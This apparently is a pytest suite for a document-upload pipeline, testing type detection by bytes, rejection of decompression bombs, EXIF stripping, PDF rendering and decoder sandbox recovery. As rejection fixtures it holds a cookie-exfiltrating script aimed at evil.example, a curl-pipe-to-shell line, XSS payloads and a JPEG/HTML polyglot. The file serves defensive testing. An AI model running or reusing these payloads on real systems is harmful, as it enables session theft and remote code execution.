"""Upload pipeline: allow-list by bytes, bombs, metadata stripping, PDFs, quality, sandbox."""

from __future__ import annotations

import inspect
import io
import os
import random
import signal
import struct
import time
import zlib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import pillow_heif
import pypdfium2 as pdfium
import pytest
from PIL import ExifTags, Image, ImageDraw, ImageFilter, ImageFont

from verifier.errors import UploadRejected
from verifier.portal import decoding, documents
from verifier.portal.documents import DecoderPool, PipelineLimits, process_upload

pillow_heif.register_heif_opener()  # only so the tests can *write* HEIC samples


# --- sample files ----------------------------------------------------------------------


def text_image(size: tuple[int, int] = (1600, 1000), font_size: int = 28) -> Image.Image:
    """A sharp, document-like image: dark text lines on a light background."""
    rng = random.Random(1)
    image = Image.new("RGB", size, (245, 245, 240))
    draw = ImageDraw.Draw(image)
    font = ImageFont.load_default(font_size)
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ abcdefghijklmnop 0123456789"
    for y in range(20, size[1] - font_size, font_size + 14):
        line = "".join(rng.choice(alphabet) for _ in range(80))
        draw.text((20, y), line, fill=(20, 20, 30), font=font)
    return image


def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def bilevel_png(width: int, height: int) -> bytes:
    """A real, valid 1-bit PNG of any size; all-zero rows compress to almost nothing."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    compressor = zlib.compressobj(1)
    row = b"\x00" * (1 + (width + 7) // 8)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    signature = b"\x89PNG\r\n\x1a\n"
    return signature + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def pdf_with_pages(count: int) -> bytes:
    pages = [text_image((850, 1100), 20) for _ in range(count)]
    return encode(pages[0], "PDF", save_all=True, append_images=pages[1:], resolution=100)


def password_protected_pdf() -> bytes:
    """A minimal PDF whose standard security handler needs a user password to open."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        # /U cannot match the empty password, so PDFium asks for one.
        b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >>" % (b"11" * 32, b"22" * 32),
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    file_id = b"<0123456789abcdef0123456789abcdef>"
    out += b"trailer\n<< /Size %d /Root 1 0 R /Encrypt 4 0 R /ID [%s %s] >>\n" % (
        len(objects) + 1,
        file_id,
        file_id,
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % xref


def open_output(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    assert image.format == "JPEG"
    return image


def codes(result: documents.ProcessedUpload) -> set[str]:
    return {warning.code for warning in result.warnings}


def rejected_code(data: bytes, **kwargs: object) -> str:
    with pytest.raises(UploadRejected) as caught:
        process_upload(data, **kwargs)  # type: ignore[arg-type]
    assert caught.value.message  # always something to show the customer
    return caught.value.code


@pytest.fixture(scope="module")
def pool() -> Iterator[DecoderPool]:
    decoder_pool = DecoderPool(max_workers=2)
    yield decoder_pool
    decoder_pool.shutdown()


@pytest.fixture(scope="module")
def bomb_png() -> bytes:
    return bilevel_png(30_000, 30_000)


# --- allowed types -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "params", "source_type"),
    [
        ("JPEG", {"quality": 90}, "image/jpeg"),
        ("PNG", {}, "image/png"),
        ("WEBP", {"quality": 90}, "image/webp"),
        ("HEIF", {"quality": 90}, "image/heic"),
    ],
)
def test_each_allowed_image_type_comes_out_as_jpeg(
    pool: DecoderPool, fmt: str, params: dict[str, object], source_type: str
) -> None:
    data = encode(text_image((1200, 800)), fmt, **params)

    result = process_upload(data, pool=pool)

    assert result.source_type == source_type
    [page] = result.pages
    assert page.content_type == "image/jpeg"
    assert open_output(page.data).size == (page.width, page.height) == (1200, 800)
    assert result.warnings == []


def test_pdf_renders_one_jpeg_per_page(pool: DecoderPool) -> None:
    result = process_upload(pdf_with_pages(3), pool=pool)

    assert result.source_type == "application/pdf"
    assert len(result.pages) == 3
    for page in result.pages:
        assert open_output(page.data).size == (page.width, page.height)
        # 8.5 x 11 in at 150 dpi (PDFium rounds the height up).
        assert page.width == 1275 and page.height in (1650, 1651)
        assert b"%PDF" not in page.data
    assert result.warnings == []


def test_pdf_quality_warnings_name_the_page() -> None:
    light, dark = text_image((850, 1100), 20), text_image((850, 1100), 20).point(lambda v: v // 8)
    data = encode(light, "PDF", save_all=True, append_images=[dark], resolution=100)

    result = process_upload(data)

    assert [(w.code, w.page) for w in result.warnings] == [("too_dark", 2)]


def test_pdf_with_too_many_pages_is_rejected() -> None:
    assert rejected_code(pdf_with_pages(4)) == "too_many_pages"
    assert len(process_upload(pdf_with_pages(4), PipelineLimits(max_pdf_pages=4)).pages) == 4


def test_password_protected_pdf_is_rejected() -> None:
    assert rejected_code(password_protected_pdf()) == "pdf_encrypted"


def test_large_pdf_page_is_scaled_to_max_edge() -> None:
    poster = pdfium.PdfDocument.new()
    poster.new_page(72 * 40, 72 * 30)  # 40 x 30 inches
    out = io.BytesIO()
    poster.save(out)

    [page] = process_upload(out.getvalue()).pages

    assert (page.width, page.height) == (2048, 1536)


# --- trust bytes, not names ----------------------------------------------------------------


def test_pipeline_takes_no_name_or_declared_type() -> None:
    assert list(inspect.signature(process_upload).parameters) == ["data", "limits", "pool"]


def test_type_comes_from_the_bytes() -> None:
    png_named_jpg = encode(text_image((800, 600)), "PNG")
    pdf_named_jpg = pdf_with_pages(1)

    assert process_upload(png_named_jpg).source_type == "image/png"
    assert process_upload(pdf_named_jpg).source_type == "application/pdf"


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        b"<script>fetch('https://evil.example/'+document.cookie)</script>",
        b"#!/bin/sh\ncurl https://evil.example | sh\n",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"PK\x03\x04" + b"\x00" * 100,
        encode(Image.new("RGB", (700, 700)), "GIF"),
        encode(Image.new("RGB", (700, 700)), "BMP"),
        encode(Image.new("RGB", (700, 700)), "TIFF"),
    ],
    ids=["html", "script", "shell", "svg", "zip", "gif", "bmp", "tiff"],
)
def test_files_outside_the_allow_list_are_rejected(data: bytes) -> None:
    assert rejected_code(data) == "type_not_allowed"


def test_sniffed_type_must_agree_with_the_decoder() -> None:
    # JPEG magic bytes followed by PNG data: the JPEG decoder alone may open it, and fails.
    assert rejected_code(b"\xff\xd8\xff\xe0" + encode(text_image((700, 700)), "PNG")) == (
        "unreadable"
    )


def test_jpeg_html_polyglot_comes_out_clean(pool: DecoderPool) -> None:
    payload = b"<html><script>alert(document.domain)</script></html>"
    polyglot = encode(text_image((900, 700)), "JPEG", comment=payload) + payload
    assert Image.open(io.BytesIO(polyglot)).info["comment"] == payload

    [page] = process_upload(polyglot, pool=pool).pages

    for marker in (b"<script", b"<html", b"alert("):
        assert marker not in page.data.lower()
    assert "comment" not in open_output(page.data).info


# --- metadata ----------------------------------------------------------------------------


def test_exif_orientation_applied_and_all_metadata_removed(pool: DecoderPool) -> None:
    stored = Image.new("RGB", (800, 600), "white")
    stored.paste((255, 0, 0), (0, 0, 100, 100))  # marker in the stored top-left corner
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # display rotated 90 degrees clockwise
    exif[ExifTags.Base.Make] = "DistinctiveCamMaker"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (51.0, 30.0, 12.5),
        ExifTags.GPS.GPSLongitudeRef: "W",
        ExifTags.GPS.GPSLongitude: (0.0, 7.0, 39.0),
    }
    data = encode(stored, "JPEG", exif=exif, quality=95)
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    [page] = process_upload(data, pool=pool).pages

    out = open_output(page.data)
    assert out.size == (600, 800)
    red, green, _ = out.getpixel((560, 40))  # the marker is now top-right
    assert red > 200 and green < 60
    assert len(out.getexif()) == 0
    assert not out.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    for marker in (b"Exif", b"GPS", b"DistinctiveCamMaker", b"ICC_PROFILE"):
        assert marker not in page.data
    assert not {"exif", "icc_profile", "comment", "xmp"} & set(out.info)


def test_transparency_is_flattened_on_white() -> None:
    image = Image.new("RGBA", (700, 700), (0, 0, 0, 0))
    image.paste((0, 0, 255, 255), (0, 0, 100, 100))

    [page] = process_upload(encode(image, "PNG")).pages

    out = open_output(page.data)
    assert min(out.getpixel((600, 600))) > 245
    assert out.getpixel((50, 50))[2] > 200


# --- hostile and broken files ------------------------------------------------------------


def test_decompression_bomb_rejected_from_the_header(pool: DecoderPool, bomb_png: bytes) -> None:
    assert len(bomb_png) < 500_000  # 900 megapixels (2.7 GB as RGB) in under 0.5 MB

    for kwargs in ({}, {"pool": pool}):
        started = time.monotonic()
        assert rejected_code(bomb_png, **kwargs) == "too_many_pixels"
        assert time.monotonic() - started < 1.0


def test_app_pixel_cap_is_stricter_than_pillows_default() -> None:
    # 64 megapixels: under Pillow's own warning level, over the app's 50 MP cap.
    assert rejected_code(bilevel_png(8000, 8000)) == "too_many_pixels"
    assert rejected_code(bilevel_png(2000, 2000), limits=PipelineLimits(max_pixels=1_000_000)) == (
        "too_many_pixels"
    )


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_truncated_image_is_rejected(fmt: str) -> None:
    data = encode(text_image((900, 700)), fmt)

    assert rejected_code(data[: len(data) // 2]) == "unreadable"


def test_empty_file_is_rejected() -> None:
    assert rejected_code(b"") == "empty_file"


def test_too_large_file_is_rejected_before_decoding() -> None:
    limits = PipelineLimits(max_bytes=10_000)

    assert rejected_code(b"<html>" * 10_000, limits=limits) == "too_large"


# --- size and quality --------------------------------------------------------------------


def test_large_jpeg_is_downscaled_to_max_edge() -> None:
    data = encode(text_image((6000, 4000), 80), "JPEG", quality=85)

    [page] = process_upload(data).pages

    assert (page.width, page.height) == (2048, 1365)


def test_good_image_has_no_warnings() -> None:
    assert process_upload(encode(text_image(), "JPEG", quality=90)).warnings == []


def test_tiny_image_warns_too_small() -> None:
    result = process_upload(encode(text_image((300, 200), 14), "PNG"))

    assert "too_small" in codes(result)
    assert result.pages[0].width == 300  # never upscaled


def test_dark_image_warns_too_dark() -> None:
    dark = text_image().point(lambda value: value // 8)

    assert codes(process_upload(encode(dark, "JPEG", quality=90))) == {"too_dark"}


def test_blurred_image_warns_blurry() -> None:
    blurred = text_image().filter(ImageFilter.GaussianBlur(6))

    result = process_upload(encode(blurred, "JPEG", quality=90))

    assert codes(result) == {"blurry"}
    assert "focus" in result.warnings[0].message


# --- the decoder sandbox -----------------------------------------------------------------


def test_decoder_crash_fails_that_upload_and_the_pool_recovers(pool: DecoderPool) -> None:
    with pytest.raises(UploadRejected) as caught:
        pool._call(decoding._crash_for_test, timeout=10)

    assert caught.value.code == "decoder_failed"
    assert "try again" in caught.value.message
    assert process_upload(encode(text_image(), "PNG"), pool=pool).pages


def test_a_crash_fails_no_other_upload_in_flight(pool: DecoderPool) -> None:
    data = encode(text_image(), "PNG")
    with ThreadPoolExecutor(max_workers=4) as threads:
        crash = threads.submit(pool._call, decoding._crash_for_test, timeout=10)
        uploads = [threads.submit(process_upload, data, pool=pool) for _ in range(3)]

        assert all(upload.result().pages for upload in uploads)
        with pytest.raises(UploadRejected):
            crash.result()


def test_a_decoder_killed_while_idle_is_replaced_before_the_next_upload(pool: DecoderPool) -> None:
    # kill -9 (or the kernel's out-of-memory killer) between two uploads: the supervisor
    # starts another on the same socket, and the next uploads succeed.
    data = encode(text_image(), "PNG")
    for _ in range(3):
        assert process_upload(data, pool=pool).pages  # the decoders run now
        pids = pool.decoder_pids()
        assert len(pids) == pool.max_workers
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
        results = [process_upload(data, pool=pool) for _ in range(pool.max_workers * 2)]
        assert all(result.pages for result in results)
        assert not set(pool.decoder_pids()) & set(pids)


def test_a_busy_pool_says_try_again_in_a_moment_never_that_the_file_is_bad() -> None:
    busy = DecoderPool(max_workers=1, lane_wait_s=0.3)
    try:
        with ThreadPoolExecutor(max_workers=1) as threads:
            holding = threads.submit(busy._call, decoding._sleep_for_test, 3, timeout=10)
            time.sleep(0.5)  # the only lane is now decoding
            with pytest.raises(UploadRejected) as caught:
                process_upload(encode(text_image(), "PNG"), pool=busy)
            holding.result()
    finally:
        busy.shutdown()
    assert caught.value.code == "decoder_busy"
    assert "nothing is wrong with it" in caught.value.message


def test_decoder_timeout_fails_that_upload_and_the_pool_recovers(pool: DecoderPool) -> None:
    started = time.monotonic()
    with pytest.raises(UploadRejected) as caught:
        pool._call(decoding._sleep_for_test, 30, timeout=0.5)

    assert caught.value.code == "decoder_failed"
    assert time.monotonic() - started < 5
    assert process_upload(encode(text_image(), "PNG"), pool=pool).pages


def test_memory_limit_fails_cleanly(pool: DecoderPool) -> None:
    # Within the pixel cap (49 MP) but needs far more than 320 MiB to decode and convert.
    heavy = bilevel_png(7000, 7000)
    # Admission by cost would refuse this sparse file first; switched off to reach the cap.
    limits = PipelineLimits(worker_memory_bytes=320 * 1024 * 1024, min_bytes_per_megapixel=0)
    tight = DecoderPool(limits, max_workers=1)
    try:
        with pytest.raises(UploadRejected) as caught:
            process_upload(heavy, limits, pool=tight)
    finally:
        tight.shutdown()

    assert caught.value.code == "decoder_failed"
    assert process_upload(encode(text_image(), "PNG"), pool=pool).pages


def test_shut_down_pool_refuses_work() -> None:
    idle = DecoderPool(max_workers=1)
    idle.shutdown()

    with pytest.raises(RuntimeError):
        process_upload(encode(text_image((700, 700)), "PNG"), pool=idle)


def test_default_pool_is_shared_and_replaced_after_shutdown() -> None:
    first = documents.get_default_pool()
    assert documents.get_default_pool() is first

    documents.shutdown()

    assert documents.get_default_pool() is not first
    documents.shutdown()


def test_phone_photo_is_decoded_at_half_scale_and_turned_upright() -> None:
    # 4032x3024 as a phone writes it, held upright (EXIF orientation 6): left half dark.
    photo = Image.new("RGB", (4032, 3024), "white")
    photo.paste((0, 0, 0), (0, 0, 2016, 3024))
    exif = Image.Exif()
    exif[0x0112] = 6
    buf = io.BytesIO()
    photo.save(buf, "JPEG", quality=85, exif=exif)

    [page] = process_upload(buf.getvalue()).pages

    assert (page.width, page.height) == (1512, 2016)  # half scale, portrait
    upright = Image.open(io.BytesIO(page.data))
    # Rotated 90 degrees clockwise: the dark left half is now the top half.
    assert upright.getpixel((756, 400))[0] < 60 and upright.getpixel((756, 1600))[0] > 200
    assert not upright.getexif()
